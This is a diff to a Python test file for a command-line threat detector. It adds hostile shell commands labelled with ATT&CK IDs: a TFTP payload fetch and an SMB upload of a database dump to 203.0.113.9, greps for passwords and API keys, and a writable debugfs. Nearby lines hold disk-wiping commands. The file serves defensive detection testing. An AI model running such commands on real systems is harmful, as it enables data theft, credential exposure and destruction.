@@ -483,6 +483,11 @@ FETCHED_HOOKED_OR_CARRIED = [
     ("arecord -d 60 -f cd /tmp/a.wav", "T1123"),
     ("sgdisk --zap-all /dev/nvme0n1", "T1561.002"),
     ("blkdiscard -f /dev/sdb", "T1561.001"),
+    ("atftp -g -r beacon -l /dev/shm/b 203.0.113.9", "T1105"),
+    ("smbclient //203.0.113.9/drop -N -c 'put /tmp/dump.sql.gz d.gz'", "T1048"),
+    ("grep -rInE 'password|api_key' /var/www /etc", "T1552.001"),  # an alternation names the secret
+    ("grep -a -o PASS=[^\\s]* /proc/*/cmdline", "T1552"),  # every process's command line, searched
+    ("debugfs -w /dev/sda1", "T1006"),  # the file system edited off the device
 ]
 
 
@@ -517,6 +522,8 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     "sed -i s/debug/info/ /var/log/app/settings.log",
     "dig +short api.example.org",
     "curl -s http://localhost:9100/metrics",
+    "cat /proc/1234/cmdline",
+    "grep -r TODO src/",
     "docker run --rm -v /srv:/src builder make",
 ])
 def test_their_routine_neighbours_stay_weak(line: str) -> None:
